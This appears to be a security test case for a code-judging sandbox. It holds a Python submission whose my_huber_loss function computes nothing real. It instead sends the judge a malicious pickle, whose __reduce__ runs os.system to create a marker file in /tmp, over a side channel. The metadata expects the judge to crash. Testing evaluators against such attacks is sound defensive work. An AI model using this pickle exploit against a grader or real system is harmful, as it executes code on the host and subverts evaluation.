# /// attack
# group = "T8"
# says = "answers with a pickle that would run a program in the judge"
# expected.my_huber_loss = "crashed"
# message = "channel"
# ///
import os
import pickle
import struct


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/" + WORLD["mark"],)


def my_huber_loss(y_true, y_pred):
    body = pickle.dumps(Payload())
    os.write(4, struct.pack(">I", len(body)) + body)
    return 0 * y_pred
